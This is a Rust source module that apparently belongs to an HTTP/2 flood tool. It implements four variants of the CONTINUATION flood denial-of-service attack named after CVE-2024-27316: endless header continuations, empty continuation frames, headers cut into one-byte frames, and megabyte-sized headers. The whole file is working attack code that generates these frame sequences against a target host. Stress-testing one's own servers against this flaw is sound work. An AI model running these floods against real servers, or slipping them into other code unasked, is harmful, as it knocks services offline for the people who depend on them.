//! Heads that go on and on (CONTINUATION flood, CVE-2024-27316 and its kin).

use super::{Flood, stream_id};
use crate::frames::{END_HEADERS, END_STREAM, Frame, hpack::Block};

/// A head that never ends: CONTINUATION with short fields, without END_HEADERS.
#[derive(Debug)]
pub struct Endless;

impl Flood for Endless {
    fn name(&self) -> &'static str {
        "CONTINUATION flood"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        vec![Frame::headers(
            stream_id(0),
            END_STREAM,
            Block::get(host, "/"),
        )]
    }

    fn wave(&self, n: u32, _: &str) -> Vec<Frame> {
        let field = Block::new().field(format!("x-{n}"), "value");
        vec![Frame::continuation(stream_id(0), 0, field)]
    }
}

/// A head that never ends and never grows: CONTINUATION without a byte.
#[derive(Debug)]
pub struct Empty;

impl Flood for Empty {
    fn name(&self) -> &'static str {
        "empty CONTINUATION flood"
    }

    fn opening(&self, host: &str) -> Vec<Frame> {
        vec![Frame::headers(
            stream_id(0),
            END_STREAM,
            Block::get(host, "/"),
        )]
    }

    fn wave(&self, _: u32, _: &str) -> Vec<Frame> {
        vec![Frame::continuation(stream_id(0), 0, [])]
    }
}

/// Heads that end, each cut into frames of one byte.
#[derive(Debug)]
pub struct Crumbled;

impl Flood for Crumbled {
    fn name(&self) -> &'static str {
        "crumbled heads"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        let block: Vec<u8> = Block::get(host, "/")
            .field("x-more", "a".repeat(100))
            .into();
        let (last, rest) = block.split_last().unwrap_or((&0, &[]));
        let middle = rest
            .iter()
            .map(|byte| Frame::continuation(stream_id(n), 0, [*byte]));
        std::iter::once(Frame::headers(stream_id(n), END_STREAM, []))
            .chain(middle)
            .chain([Frame::continuation(stream_id(n), END_HEADERS, [*last])])
            .collect()
    }
}

/// Heads of a megabyte that end: each frame as long as it may be.
#[derive(Debug)]
pub struct Huge;

impl Flood for Huge {
    fn name(&self) -> &'static str {
        "huge heads"
    }

    fn wave(&self, n: u32, host: &str) -> Vec<Frame> {
        const FRAME: usize = 16_000;
        let field = Block::new().field("x-huge", "h".repeat(FRAME));
        let part = Frame::continuation(stream_id(n), 0, field);
        std::iter::once(Frame::headers(
            stream_id(n),
            END_STREAM,
            Block::get(host, "/"),
        ))
        .chain(std::iter::repeat_n(part, 60))
        .chain([Frame::continuation(stream_id(n), END_HEADERS, [])])
        .collect()
    }
}
